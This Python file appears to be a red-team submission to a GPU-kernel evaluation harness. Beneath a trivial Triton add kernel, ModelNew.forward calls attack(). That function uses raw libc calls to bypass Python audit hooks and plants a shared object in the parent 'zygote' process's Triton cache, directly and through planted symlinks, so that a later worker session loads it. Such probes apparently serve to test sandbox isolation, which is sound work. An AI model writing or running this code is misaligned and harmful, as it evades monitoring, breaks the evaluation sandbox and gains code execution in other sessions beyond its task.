import ctypes
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, c_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(c_ptr + offs, tl.load(a_ptr + offs, mask=mask) + tl.load(b_ptr + offs, mask=mask), mask=mask)


def add(a, b):
    c = torch.empty_like(a)
    add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, c, a.numel(), BLOCK=1024)
    return c



libc = ctypes.CDLL(None, use_errno=True)


def held(what):
    e = ctypes.get_errno()
    raise RuntimeError(f"held: {what} (errno {e}: {os.strerror(e)})")


def targets():
    """The zygote's own Triton cache (cache_dir/zygote/triton): the next worker session's zygote loads
    Triton's CUDA utilities (cuda_utils, a shared object) from there before it forks any candidate. Found by
    walking up from its own cache (cache_dir/candidates/<hash>/triton)."""
    out, d = [], os.environ.get("TRITON_CACHE_DIR", os.getcwd())
    for _ in range(6):
        d = os.path.dirname(d)
        out += [os.path.join(d, "zygote", "triton"), os.path.join(d, "cache", "zygote", "triton")]
    return out


def attack():
    own = os.environ.get("TRITON_CACHE_DIR", os.getcwd())
    for i, t in enumerate(targets()):
        # straight, and through a symlink planted in its own (writable) cache
        link = os.path.join(own, f"sieve_rt_link{i}")
        libc.symlink(t.encode(), link.encode())
        for p in (os.path.join(t, "sieve_rt_zygote.so"), os.path.join(link, "sieve_rt_zygote.so")):
            if libc.open(p.encode(), os.O_WRONLY | os.O_CREAT, 0o644) >= 0:
                return
    held("open(a file in the zygote's compile cache)")


class ModelNew(nn.Module):
    """plants a shared object, with libc (no audit hook), where the zygote builds and loads Triton's CUDA
    utilities, directly and through a symlink in its own cache."""

    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        attack()  # returns only when the attack worked
        return add(a.contiguous(), b.contiguous())
